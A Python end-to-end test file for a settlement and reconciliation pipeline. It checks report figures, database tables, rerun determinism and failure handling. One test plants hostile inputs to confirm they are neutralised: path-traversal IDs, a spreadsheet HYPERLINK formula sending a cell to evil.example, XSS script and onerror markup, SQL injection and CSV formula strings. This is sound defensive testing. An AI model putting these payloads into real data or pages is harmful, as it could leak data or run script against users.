"""End to end: the real Prefect flow on `data_samples/`, the real CLI, real Parquet and DuckDB."""

import json
import os
import re
import shutil
import subprocess
import sys
import time
from datetime import UTC, date, datetime
from decimal import Decimal
from html.parser import HTMLParser
from pathlib import Path

import duckdb
import polars as pl
import pytest
from prefect import get_client

from flows import steps
from flows.settle import RunFailed, settle_flow
from publish import store, warehouse
from schemas.layout import ORDER_DETAILS_LABELS, ORDER_DETAILS_MONEY
from synthetic.generate import generate_to_dir
from tests.test_cli import assert_sample_summary

ROOT = Path(__file__).resolve().parents[1]
SAMPLES = ROOT / "data_samples"
AS_OF = datetime(2026, 11, 1, tzinfo=UTC)


def _parquet_bytes(run_dir: Path) -> dict[str, bytes]:
    """Every Parquet and CSV file of a run, by path (the outputs that must be byte-identical)."""
    files = sorted([*run_dir.rglob("*.parquet"), *run_dir.rglob("*.csv")])
    return {str(p.relative_to(run_dir)): p.read_bytes() for p in files}


class _Report(HTMLParser):
    """What the reconciliation report shows: its key figures, its tables (under their <h2>, cell
    text unescaped), and the bars of its chart (attributes and <title>)."""

    def __init__(self, text: str):
        super().__init__(convert_charrefs=True)
        self.kpis: dict[str, str] = {}
        self.tables: dict[str, list[list[str]]] = {}
        self.bars: list[dict[str, str]] = []
        self.svgs = 0
        self._h2 = self._kpi = self._cell = None
        self._rows: list[list[str]] | None = None
        self._in: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        if tag not in ("meta", "link", "br", "hr", "img", "input"):  # void elements have no end tag
            self._in.append(tag)
        if tag == "svg":
            self.svgs += 1
        elif tag == "rect":
            self.bars.append({**dict(attrs), "title": ""})
        elif tag == "h2":
            self._h2 = ""
        elif tag == "div" and ("class", "kpi") in attrs:
            self._kpi = ["", ""]
        elif tag == "table":
            self._rows = []
        elif tag == "tr" and self._rows is not None:
            self._rows.append([])
        elif tag in ("td", "th"):
            self._cell = ""

    def handle_endtag(self, tag):
        del self._in[len(self._in) - 1 - self._in[::-1].index(tag) :]
        if tag == "div" and self._kpi is not None:
            self.kpis[self._kpi[0].strip()] = self._kpi[1]
            self._kpi = None
        elif tag == "h2":
            self._h2 = self._h2.strip()
        elif tag in ("td", "th"):
            self._rows[-1].append(self._cell)
            self._cell = None
        elif tag == "table":
            self.tables[self._h2] = self._rows
            self._rows = None

    def handle_data(self, data):
        if self._in and self._in[-1] == "title" and self.bars and "rect" in self._in:
            self.bars[-1]["title"] += data
        elif self._in and self._in[-1] == "h2":
            self._h2 += data
        elif self._kpi is not None:
            self._kpi[self._in[-1] == "b"] += data
        elif self._cell is not None:
            self._cell += data


def _amount(value: Decimal | None) -> str:
    """An amount as the report shows it: thousands separated, 2 decimals."""
    return "" if value is None else f"{value:,.2f}"


def _assert_report_shows_the_reconciliation(current: Path) -> None:
    """The HTML report of the sample run against the published recon tables and the figures of
    data_samples/README.md ("Expected breaks" and "Expected statement bridge")."""
    text = (current / "reconciliation_report.html").read_text()
    report = _Report(text)
    statements = pl.read_parquet(current / "recon_statements" / "*" / "*.parquet", hive_partitioning=False)
    breaks = pl.read_parquet(current / "recon_breaks" / "*" / "*.parquet", hive_partitioning=False)
    # Key figures: 51 statements and 75 breaks (README), the published tables' sizes; the totals are
    # the sums of the published expected and reported totals, 1,092.69 apart: the sum of the README
    # bridge's differences (53.52 - 4.60 - 52.01 - 51.57 - 40.76 + 42.41 + 1,149.31 - 0.03 - 3.58).
    assert (statements.height, breaks.height) == (51, 75)
    expected_total = statements["expected_total_settlement_amount"].sum()
    reported_total = statements["reported_total_settlement_amount"].sum()
    assert reported_total - expected_total == Decimal("1092.69")
    assert report.kpis == {
        "Statements": "51",
        "Expected total": _amount(expected_total),
        "Reported total": _amount(reported_total),
        "Breaks": "75",
    }
    assert list(report.tables) == [
        "Breaks by type and probable cause",
        "Largest breaks",
        "Bridge per shop and statement",
    ]

    # Breaks by type and cause, most first (README "Expected breaks"): timing is O-6001's 22 and
    # O-7006's 11; missing O-5006's 12; unexpected O-9950's 11; O-3011 6 coupon_rejected, O-2002 3
    # fee_rate, the O-5003 chargeback 2, O-1001 2 flash_deal_priority, O-4003 2 opt_out_timing,
    # O-0193 2 with no cause and 1 not_modelled, the residual 1. The last column sums the
    # "Total settlement amount" breaks: timing +51.57 - 51.57 + 42.41; none where there is no such break.
    by_type = report.tables["Breaks by type and probable cause"]
    assert by_type == [
        ["break_type", "probable_cause", "breaks", "total_difference"],
        ["timing", "", "33", "42.41"],
        ["missing_in_reported", "", "12", "-52.01"],
        ["unexpected_in_reported", "", "11", "1,149.31"],
        ["amount_mismatch", "coupon_rejected", "6", "-4.60"],
        ["amount_mismatch", "fee_rate", "3", "1.95"],
        ["adjustment", "", "2", "-40.76"],
        ["amount_mismatch", "flash_deal_priority", "2", "0.00"],
        ["amount_mismatch", "opt_out_timing", "2", "0.00"],
        ["amount_mismatch", "", "2", "-3.58"],
        ["amount_mismatch", "not_modelled", "1", "0.00"],
        ["statement_residual", "", "1", "-0.03"],
    ]
    published_types = breaks.group_by("break_type", "probable_cause").len()
    assert sorted((t, c or "", str(n)) for t, c, n in published_types.rows()) == sorted(
        tuple(row[:3]) for row in by_type[1:]
    )
    assert {row[0] for row in by_type[1:]} == set(breaks["break_type"])  # every break type present is shown

    # Largest breaks: the 25 of largest |difference|, the first O-9950's customer payment (README).
    largest = report.tables["Largest breaks"]
    assert largest[0] == [
        "shop_id",
        "statement_date_utc",
        "order_id",
        "column",
        "expected",
        "reported",
        "difference",
        "break_type",
        "probable_cause",
        "within_tolerance",
    ]
    assert len(largest) == 1 + 25
    assert largest[1] == [
        "SHOP-B",
        "2026-10-02",
        "O-9950",
        "Customer payment",
        "0.00",
        "1,346.54",
        "1,346.54",
        "unexpected_in_reported",
        "",
        "False",
    ]
    top = breaks["difference"].abs().sort(descending=True).head(25)
    assert [Decimal(row[6].replace(",", "")).copy_abs() for row in largest[1:]] == top.to_list()

    # The bridge: one row per published recon statement, the same figures; those of the README's
    # bridge table where it lists them, 0.00 and no break elsewhere.
    bridge = report.tables["Bridge per shop and statement"]
    assert bridge[0] == [
        "shop_id",
        "statement_date_utc",
        "reported_statement_id",
        "expected",
        "reported",
        "difference",
        "count_breaks",
    ]
    published_bridge = [
        [shop, day, statement_id, _amount(expected), _amount(reported), _amount(difference), str(count)]
        for shop, day, statement_id, expected, reported, difference, count in statements.select(
            "shop_id",
            "statement_date_utc",
            "reported_statement_id",
            "expected_total_settlement_amount",
            "reported_total_settlement_amount",
            "difference_total_settlement_amount",
            "count_breaks",
        ).rows()
    ]
    assert sorted(bridge[1:]) == sorted(published_bridge)
    readme_bridge = {
        ("SHOP-A", "2026-09-19"): ("451.74", "451.74", "0.00", "2"),
        ("SHOP-A", "2026-09-20"): ("446.21", "499.73", "53.52", "14"),
        ("SHOP-A", "2026-09-21"): ("364.91", "360.31", "-4.60", "6"),
        ("SHOP-A", "2026-09-22"): ("320.03", "268.02", "-52.01", "12"),
        ("SHOP-A", "2026-09-23"): ("75.42", "23.85", "-51.57", "11"),
        ("SHOP-A", "2026-10-02"): ("324.57", "283.81", "-40.76", "2"),
        ("SHOP-A", "2026-11-01"): ("0.00", "42.41", "42.41", "11"),
        ("SHOP-B", "2026-09-26"): ("244.37", "244.37", "0.00", "2"),
        ("SHOP-B", "2026-10-02"): ("26.38", "1,175.69", "1,149.31", "11"),
        ("SHOP-B", "2026-10-07"): ("45.48", "45.45", "-0.03", "1"),
        ("SHOP-B", "2026-10-08"): ("19.72", "16.14", "-3.58", "3"),
    }
    shown = {(row[0], row[1]): (row[3], row[4], row[5], row[6]) for row in bridge[1:]}
    assert len(shown) == 51
    for key, figures in shown.items():
        if key in readme_bridge:
            assert figures == readme_bridge[key], key
        else:
            assert figures[0] == figures[1] and figures[2:] == ("0.00", "0"), key

    # The chart: one bar per statement, in the bridge's order; green at or above zero, red below
    # (6 below: SHOP-A 09-21, 09-22, 09-23, 10-02, SHOP-B 10-07, 10-08). Heights scale |difference|
    # to the largest, SHOP-B 2026-10-02's 1,149.31, which fills the 90 px from the axis (260/2 - 40).
    assert report.svgs == 1 and text.count("<svg") == 1
    assert len(report.bars) == 51
    assert [bar["title"] for bar in report.bars] == [
        f"{row[0]} {row[1]}: {'' if row[5].startswith('-') else '+'}{row[5]}" for row in bridge[1:]
    ]
    colours = [bar["fill"] for bar in report.bars]
    assert colours.count("#c62828") == 6 and colours.count("#2e7d32") == 45
    for bar, row in zip(report.bars, bridge[1:], strict=True):
        difference = Decimal(row[5].replace(",", ""))
        assert bar["fill"] == ("#2e7d32" if difference >= 0 else "#c62828"), bar
        height = float(abs(difference) / Decimal("1149.31")) * 90
        assert abs(float(bar["height"]) - max(height, 0.5)) <= 0.05, bar
        top_y = 130 - height if difference >= 0 else 130
        assert abs(float(bar["y"]) - top_y) <= 0.05, bar
    assert max(report.bars, key=lambda bar: float(bar["height"]))["title"] == "SHOP-B 2026-10-02: +1,149.31"
    assert re.search(r">\+1,149\.31</text>.*>-1,149\.31</text></svg>", text)  # the scale's two labels


def test_flow_publishes_validated_outputs_and_reruns_identically(prefect_server, tmp_path):
    out = tmp_path / "out"
    first = settle_flow(input_dir=str(SAMPLES), out_dir=str(out), as_of=AS_OF)
    current = out / "current"
    assert current.is_symlink()
    manifest = json.loads((current / "manifest.json").read_text())
    # Nothing lost: every input row is accepted or rejected.
    for table, count in manifest["rows_in"].items():
        assert count["rows_in"] == count["accepted"] + count["rejected"], table
    rejected = pl.read_parquet(current / "rejected_rows.parquet")
    assert rejected.height == sum(c["rejected"] for c in manifest["rows_in"].values())
    assert manifest["as_of"] == AS_OF.isoformat()
    assert "DiscountLines" in manifest["checks_passed"]
    assert set(manifest["inputs"]) == {p.name for p in SAMPLES.glob("*.parquet")}
    discount_lines = pl.read_parquet(current / "discount_lines" / "*.parquet")
    assert discount_lines.schema["amount"] == pl.Decimal(18, 2)
    funded = sum(shop["seller_funded_cents"] + shop["tiktok_funded_cents"] for shop in first["shops"])
    assert funded == int(discount_lines["amount"].sum() * 100)
    # Order details: one Parquet partition per statement date, the same rows as the exports.
    details = pl.read_parquet(current / "order_details" / "**" / "*.parquet", hive_partitioning=False)
    assert (
        len(list((current / "order_details").glob("statement_date_utc=*"))) == details["statement_date_utc"].n_unique()
    )
    csv_rows = sum(pl.read_csv(p).height for p in (current / "exports").glob("*/*.csv"))  # not journals/
    assert csv_rows == details.height
    assert len(list((current / "exports").rglob("*.xlsx"))) == manifest["rows_out"]["statements"]

    # The analysts' database holds the same tables.
    with duckdb.connect(str(out / "settlement.duckdb"), read_only=True) as con:
        n = con.execute("SELECT count(*) FROM discount_lines").fetchone()[0]
        by_view = con.execute("SELECT sum(discount) FROM discounts_daily").fetchone()[0]
        statements = con.execute("SELECT count(*) FROM statements").fetchone()[0]
    assert n == discount_lines.height
    assert by_view == discount_lines["amount"].sum()
    assert statements == manifest["rows_out"]["statements"]

    # Reconciliation of the sample exports: published, bridged, reported as HTML and as artifacts.
    assert first["recon_statements"] == manifest["rows_out"]["recon_statements"] > 0
    assert first["recon_breaks"] == manifest["rows_out"]["recon_breaks"] > 0
    _assert_report_shows_the_reconciliation(current)  # its escaping of untrusted text: test_hostile_ids_…
    with get_client(sync_client=True) as client:
        keys = {a.key for a in client.read_artifacts()}
    assert {"recon-bridge", "settlement-summary", "settlement-outputs"} <= keys

    before = _parquet_bytes(current.resolve())
    settle_flow(input_dir=str(SAMPLES), out_dir=str(out), as_of=AS_OF)
    assert _parquet_bytes((out / "current").resolve()) == before


def test_failed_run_leaves_last_good_outputs(prefect_server, tmp_path):
    out = tmp_path / "out"
    settle_flow(input_dir=str(SAMPLES), out_dir=str(out), as_of=AS_OF)
    good = (out / "current").resolve()
    good_bytes = _parquet_bytes(good)
    broken = tmp_path / "broken"
    shutil.copytree(SAMPLES, broken)
    pl.read_parquet(broken / "order_lines.parquet").drop("unit_price").write_parquet(broken / "order_lines.parquet")
    with pytest.raises(RunFailed, match=r"order_lines\.parquet: required column 'unit_price' is missing"):
        settle_flow(input_dir=str(broken), out_dir=str(out), as_of=AS_OF)
    assert (out / "current").resolve() == good
    assert _parquet_bytes(good) == good_bytes
    assert not any(p.name.startswith(".building") for p in (out / "runs").iterdir())


def test_run_failing_while_writing_leaves_last_good_outputs(prefect_server, tmp_path, monkeypatch):
    """A failure midway through writing (after Parquet and exports, at the database) publishes nothing."""
    out = tmp_path / "out"
    settle_flow(input_dir=str(SAMPLES), out_dir=str(out), as_of=AS_OF)
    good = (out / "current").resolve()
    good_bytes = _parquet_bytes(good)
    good_db = (out / "settlement.duckdb").read_bytes()

    def broken_update(live, target, *args):
        target.write_bytes(b"half a database")
        raise OSError("disk full")

    monkeypatch.setattr(warehouse, "update", broken_update)
    with pytest.raises(OSError, match="disk full"):
        settle_flow(input_dir=str(SAMPLES), out_dir=str(out), as_of=datetime(2026, 11, 2, tzinfo=UTC))
    assert (out / "current").resolve() == good
    assert _parquet_bytes(good) == good_bytes
    assert (out / "settlement.duckdb").read_bytes() == good_db
    assert not any(p.name.startswith(".building") for p in (out / "runs").iterdir())


def test_cli_run_on_samples(tmp_path):
    """`settle run` as a user types it: a real process, a real (ephemeral) Prefect server."""
    env = {**os.environ, "PREFECT_HOME": str(tmp_path / "prefect")}
    settle = Path(sys.executable).with_name("settle")
    done = subprocess.run(
        [
            str(settle),
            "run",
            "--input",
            str(SAMPLES),
            "--out",
            str(tmp_path / "out"),
            "--as-of",
            "2026-11-01T00:00:00Z",
        ],
        capture_output=True,
        text=True,
        env=env,
        timeout=600,
    )
    assert done.returncode == 0, done.stderr
    assert_sample_summary(done.stdout, tmp_path / "out")
    # A table without a statement date is one file, from the database (README "What it writes").
    discount_lines = tmp_path / "out" / "current" / "discount_lines"
    assert sorted(p.name for p in discount_lines.iterdir()) == ["data.parquet"]
    written = pl.read_parquet(discount_lines / "data.parquet")
    assert written.equals(written.sort(written.columns, nulls_last=True))  # one canonical order: every column in turn
    assert written.columns == ["order_id", "sku_id", "promotion_id", "promotion_type", "funded_by", "step", "amount"]
    assert (written["amount"] > 0).all()  # one row per discount greater than zero
    # The planted cases of data_samples/README.md ("Planted cases and expected outcomes"): O-1002's
    # flash deal gives no discount and the control order O-9920 meets only rejected promotions, so
    # neither has a row; the others have exactly the rows listed there.
    planted = written.filter(pl.col("order_id").is_in(["O-1001", "O-1002", "O-1003", "O-2002", "O-5001", "O-9920"]))
    assert sorted(
        (order, sku or "", promotion, step, by, str(amount))
        for order, sku, promotion, step, by, amount in planted.select(
            "order_id", "sku_id", "promotion_id", "step", "funded_by", "amount"
        ).rows()
    ) == [
        ("O-1001", "SKU-A11-RED", "FD-01", "1", "seller", "10.00"),  # 20 % of $25.00, 2 units
        ("O-1003", "SKU-A13-CLR", "PD-01", "1", "seller", "5.85"),  # $1.95/unit x 3
        ("O-1003", "SKU-A13-CLR", "PI-03", "2", "platform", "3.00"),  # $1.00/unit x 3
        ("O-2002", "SKU-A22-GRN", "PB-01", "3b", "platform", "0.88"),  # PB-01 $5.00, largest remainders
        ("O-2002", "SKU-A22-GRN", "SB-01", "3a", "seller", "4.00"),  # SB-01 tier 3, $22.80
        ("O-2002", "SKU-A23-RAW", "PB-01", "3b", "platform", "0.61"),
        ("O-2002", "SKU-A23-RAW", "SB-01", "3a", "seller", "2.80"),
        ("O-2002", "SKU-A24-BLK", "PB-01", "3b", "platform", "3.51"),
        ("O-2002", "SKU-A24-BLK", "SB-01", "3a", "seller", "16.00"),
        ("O-5001", "", "PS-01", "5", "platform", "3.00"),  # shipping: per order, no SKU
        ("O-5001", "", "SS-01", "5", "seller", "2.50"),  # 50 % of the $4.99 left, half up
    ]

    missing = subprocess.run(
        [str(settle), "run", "--input", str(tmp_path / "nowhere"), "--out", str(tmp_path / "out")],
        capture_output=True,
        text=True,
        env=env,
        timeout=600,
    )
    assert missing.returncode == 1
    assert (
        missing.stderr.strip().splitlines()[-1]
        == f"settle: error: input directory {tmp_path / 'nowhere'} does not exist"
    )


WAREHOUSE_TABLES = (
    "order_details",
    "statements",
    "recon_breaks",
    "journal_lines",
    "recon_statements",
    "discount_lines",
    "blocked_incentives",
    "coupon_checks",
    "coupon_restorations",
    "unsettled_orders",
    "orders",
    "rejected_rows",
)


def _database(out: Path) -> dict[str, pl.DataFrame]:
    """Every table of the analysts' database, rows in a canonical order."""
    with duckdb.connect(str(out / "settlement.duckdb"), read_only=True) as con:
        con.execute("SET TimeZone = 'UTC'")
        return {name: con.sql(f'SELECT * FROM "{name}" ORDER BY ALL').pl() for name in WAREHOUSE_TABLES}


def _assert_same_tables(actual: dict[str, pl.DataFrame], expected: dict[str, pl.DataFrame]) -> None:
    assert actual.keys() == expected.keys()
    for name, frame in expected.items():
        assert actual[name].equals(frame), name


def test_runs_over_parts_of_the_data_build_the_same_database_as_one_full_run(prefect_server, tmp_path):
    """Shops and statement dates in any slices, re-runs included: never a duplicate, never a lost date."""
    full = tmp_path / "full"
    settle_flow(input_dir=str(SAMPLES), out_dir=str(full), as_of=AS_OF, xlsx=False)
    expected = _database(full)
    sliced = tmp_path / "sliced"
    slices = [
        {"shops": ["SHOP-B"], "statement_to": date(2026, 6, 30)},
        {"shops": ["SHOP-A"]},
        {
            "statement_from": date(2026, 9, 1),
            "statement_to": date(2026, 10, 15),
        },  # overlaps both: replaced, not doubled
        {"shops": ["SHOP-B"], "statement_from": date(2026, 7, 1)},
        {"days_back": 1},  # the nightly: yesterday (2026-10-31) only
    ]
    for parameters in slices:
        settle_flow(input_dir=str(SAMPLES), out_dir=str(sliced), as_of=AS_OF, xlsx=False, **parameters)
        partial = _database(sliced)
        assert partial["order_details"].unique().height == partial["order_details"].height
    _assert_same_tables(_database(sliced), expected)
    with duckdb.connect(str(sliced / "settlement.duckdb"), read_only=True) as con:
        runs = con.execute("SELECT statement_from, statement_to FROM settle_runs ORDER BY run_id").fetchall()
    assert len(runs) == len(slices)
    assert runs[-1] == (date(2026, 10, 31), date(2026, 10, 31))
    # The run directory holds what that run covered: yesterday's statements only.
    details = pl.read_parquet(sliced / "current" / "order_details" / "**" / "*.parquet", hive_partitioning=False)
    assert set(details["statement_date_utc"]) <= {"2026-10-31"}


def test_shops_cut_into_slices_give_the_outputs_of_whole_shops(prefect_server, tmp_path):
    """A shop larger than a partition is cut into slices of order IDs; its statements, exports and
    reconciliation are made from all its slices. Every output is that of the run over whole shops."""
    whole = settle_flow(input_dir=str(SAMPLES), out_dir=str(tmp_path / "whole"), as_of=AS_OF)
    sliced = settle_flow(input_dir=str(SAMPLES), out_dir=str(tmp_path / "sliced"), as_of=AS_OF, partition_orders=50)
    assert whole["partitions"] == 1 and sliced["partitions"] >= 6  # both sample shops are cut, in 3 slices or more
    manifest = json.loads((tmp_path / "sliced" / "current" / "manifest.json").read_text())
    assert all(p["of"] >= 3 for p in manifest["partitions"])
    a, b = ((tmp_path / name / "current").resolve() for name in ("whole", "sliced"))
    per_partition = {
        "discount_lines",
        "blocked_incentives",
        "coupon_checks",
        "coupon_restorations",
        "unsettled_orders",
        "funding_breaks",
    }

    def published(run_dir: Path) -> dict[str, bytes]:  # by-date tables, CSV and XLSX exports, the report, rejected rows
        return {
            str(p.relative_to(run_dir)): p.read_bytes()
            for p in sorted(run_dir.rglob("*"))
            if p.is_file() and p.name != "manifest.json" and p.relative_to(run_dir).parts[0] not in per_partition
        }

    assert published(b) == published(a)
    assert any(name.endswith(".xlsx") for name in published(a)) and any(
        "recon_breaks/" in name for name in published(a)
    )
    for table in per_partition:  # one file per partition: the same rows, in files cut another way
        rows = [pl.read_parquet(run / table / "*.parquet").sort(pl.all()) for run in (a, b)]
        assert rows[1].equals(rows[0]), table
    _assert_same_tables(_database(tmp_path / "sliced"), _database(tmp_path / "whole"))
    expected = json.loads((a / "manifest.json").read_text())
    assert (manifest["rows_out"], manifest["shops"]) == (expected["rows_out"], expected["shops"])
    assert (
        (sliced["recon_breaks"], sliced["recon_statements"])
        == (whole["recon_breaks"], whole["recon_statements"])
        != (0, 0)
    )


def test_a_second_run_on_the_same_output_is_refused_with_who_holds_it(prefect_server, tmp_path):
    out = tmp_path / "out"
    with (
        store.run_lock(out, "20261101T020000Z"),
        pytest.raises(RunFailed, match=r"in use by run 20261101T020000Z \(pid \d+"),
    ):
        settle_flow(input_dir=str(SAMPLES), out_dir=str(out), as_of=AS_OF)
    assert not (out / "settlement.duckdb").exists()
    with store.run_lock(out, "next"):  # released when its holder is done: the next run goes ahead
        assert "run next" in (out / store.LOCK_NAME).read_text()


def test_dask_runs_the_partitions_with_identical_outputs(prefect_server, tmp_path):
    """Several shops in several partitions: on a local Dask cluster, the same files byte for byte."""
    inputs = tmp_path / "inputs"
    generate_to_dir(1200, 7, inputs, n_shops=4)
    local = settle_flow(
        input_dir=str(inputs), out_dir=str(tmp_path / "local"), as_of=AS_OF, partition_orders=300, xlsx=False
    )
    on_dask = settle_flow(
        input_dir=str(inputs), out_dir=str(tmp_path / "dask"), as_of=AS_OF, partition_orders=300, xlsx=False, dask=True
    )
    # The default settles two partitions at a time in the flow's process; one at a time is the same run.
    one_by_one = settle_flow(
        input_dir=str(inputs),
        out_dir=str(tmp_path / "one"),
        as_of=AS_OF,
        partition_orders=300,
        partitions_at_once=1,
        xlsx=False,
    )
    assert local["partitions"] == on_dask["partitions"] == one_by_one["partitions"] >= 3
    for other in ("dask", "one"):
        assert _parquet_bytes((tmp_path / other / "current").resolve()) == _parquet_bytes(
            (tmp_path / "local" / "current").resolve()
        )
        _assert_same_tables(_database(tmp_path / other), _database(tmp_path / "local"))


def test_a_failing_partition_publishes_nothing_once_the_others_in_flight_are_done(
    prefect_server, tmp_path, monkeypatch
):
    """Partitions settle two at a time: when one fails, the other finishes before the run is discarded."""
    inputs = tmp_path / "inputs"
    generate_to_dir(1200, 7, inputs, n_shops=4)
    finished = []
    validate = steps.validate

    def failing_validate(priced, tables):
        if (
            tables["order_details"]["shop_id"].is_in(["SHOP02"]).any()
        ):  # the third partition: SHOP01 (460 orders) is cut in two slices
            raise RunFailed("partition of SHOP02 is wrong; nothing was published")
        time.sleep(1)  # the first partition is still in flight when the second fails
        finished.append(validate(priced, tables))
        return finished[-1]

    monkeypatch.setattr(steps, "validate", failing_validate)
    with pytest.raises(RunFailed, match="SHOP02 is wrong"):
        settle_flow(input_dir=str(inputs), out_dir=str(tmp_path / "out"), as_of=AS_OF, partition_orders=300, xlsx=False)
    assert len(finished) == 2  # SHOP01's second slice was in flight, and ran to its end before the run was discarded
    assert not (tmp_path / "out" / "current").exists()
    assert not any((tmp_path / "out" / "runs").iterdir())


def test_hostile_ids_and_names_stay_inside_the_output_and_are_never_run(prefect_server, tmp_path):
    """Shop IDs that are paths (relative, absolute, with NUL), formulas and markup, and product
    names that are formulas: the run succeeds, writes nothing outside its output directory, keeps
    the IDs exactly in its tables, and no CSV cell starts a formula."""
    evil = {
        "SHOP-A": '../../../../elsewhere/=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "SHOP-B": "/srv/elsewhere/SHOP\x00X<script>alert(1)</script>",
    }
    inputs = tmp_path / "inputs"
    inputs.mkdir()
    for path in SAMPLES.glob("*.parquet"):
        frame = pl.read_parquet(path)
        if "shop_id" in frame.columns:
            frame = frame.with_columns(pl.col("shop_id").replace(evil))
        if "product_name" in frame.columns:
            row = pl.int_range(pl.len()) % 3
            frame = frame.with_columns(
                pl.when(row == 0)
                .then(pl.lit("=1+1"))
                .when(row == 1)
                .then(pl.lit("'; DROP TABLE statements; --"))
                .otherwise(pl.col("product_name"))
                .alias("product_name")
            )
        frame.write_parquet(inputs / path.name)
    # A seller's download folder named as markup: its statements reach the report as an unknown shop's.
    shutil.copytree(SAMPLES / "reported" / "SHOP-A", inputs / "reported" / "<img src=x onerror=alert(1)>")
    sandbox = tmp_path / "sandbox"
    out = sandbox / "a" / "b" / "out"  # deep enough that ../../../.. would still land inside tmp_path
    before = {p for p in tmp_path.rglob("*")}
    settle_flow(input_dir=str(inputs), out_dir=str(out), as_of=AS_OF)
    written = {p for p in tmp_path.rglob("*")} - before
    assert written and all(
        p.is_relative_to(out) or out.is_relative_to(p) for p in written
    )  # out, its parents, and what is in it
    with duckdb.connect(str(out / "settlement.duckdb"), read_only=True) as con:
        assert {s for (s,) in con.execute("SELECT DISTINCT shop_id FROM statements").fetchall()} == set(evil.values())
    csvs = list((out / "current" / "exports").glob("*/*.csv"))  # the statements (journals/ below them)
    assert len(csvs) == len(list((out / "current" / "exports").rglob("*.xlsx"))) > 0
    text = [
        label for label in ORDER_DETAILS_LABELS if label not in ORDER_DETAILS_MONEY and label != "Quantity"
    ]  # numbers may be negative
    for path in csvs:
        cells = pl.read_csv(path, infer_schema=False).select(text)
        assert not cells.select(pl.any_horizontal(pl.all().str.contains(r"^[=+\-@\t\r]")).any()).item(), path
    journals = list((out / "current" / "exports").glob("*/journals/*.csv"))
    assert journals  # a QuickBooks and a Xero file per shop and month
    for path in journals:  # their text (journal numbers and memos carry shop and statement IDs)
        cells = pl.read_csv(path, infer_schema=False).drop("Debits", "Credits", "*Amount", strict=False)
        assert not cells.select(pl.any_horizontal(pl.all().str.contains(r"^[=+\-@\t\r]")).any()).item(), path
    names = pl.concat(pl.read_csv(p, infer_schema=False) for p in csvs)["Product name"]
    assert names.is_in(["'=1+1"]).any() and not names.is_in(["=1+1"]).any()
    in_xlsx = pl.concat(
        pl.read_excel(p, sheet_name="Order details", infer_schema_length=0)
        for p in (out / "current" / "exports").rglob("*.xlsx")
    )
    assert in_xlsx["Product name"].is_in(["'=1+1"]).any() and not in_xlsx["Product name"].is_in(["=1+1"]).any()
    assert (
        in_xlsx["Product name"].is_in(["'; DROP TABLE statements; --"]).any()
    )  # SQL is data: stored and shown as it is
    report = (out / "current" / "reconciliation_report.html").read_text()
    assert "<img" not in report and "<script" not in report  # markup is shown, never run
    assert "&lt;img src=x onerror=alert(1)&gt;" in report


def test_a_nightly_run_after_two_missed_nights_publishes_all_three_days(prefect_server, tmp_path):
    """The night of 10-03 and 10-04 failed: the run of 10-05 publishes 10-02, 10-03 and 10-04,
    the same rows as three nightly runs would have, and says which dates it caught up."""
    nights = [datetime(2026, 10, day, 2, 30, tzinfo=UTC) for day in (2, 3, 4, 5)]
    missed, every = tmp_path / "missed", tmp_path / "every"
    settle_flow(input_dir=str(SAMPLES), out_dir=str(missed), as_of=nights[0], days_back=1, xlsx=False)
    summary = settle_flow(input_dir=str(SAMPLES), out_dir=str(missed), as_of=nights[3], days_back=1, xlsx=False)
    assert summary["caught_up"] == ["2026-10-02", "2026-10-03"]
    assert (summary["statement_from"], summary["statement_to"]) == ("2026-10-02", "2026-10-04")
    manifest = json.loads((missed / "current" / "manifest.json").read_text())
    assert manifest["caught_up"] == ["2026-10-02", "2026-10-03"]
    for night in nights:
        one = settle_flow(input_dir=str(SAMPLES), out_dir=str(every), as_of=night, days_back=1, xlsx=False)
        assert one["caught_up"] == []  # each night covers the day before, as the last one left it
    days = ("2026-10-02", "2026-10-03", "2026-10-04")
    dated = ("order_details", "statements", "recon_breaks", "recon_statements", "journal_lines")
    caught, separate = _database(missed), _database(every)
    for name in dated:
        these = caught[name].filter(pl.col("statement_date_utc").is_in(days))
        assert these.equals(separate[name].filter(pl.col("statement_date_utc").is_in(days))), name
    assert set(caught["statements"]["statement_date_utc"]) >= {"2026-10-01", *days}
    assert caught["statements"].filter(pl.col("statement_date_utc").is_in(days)).height > 0
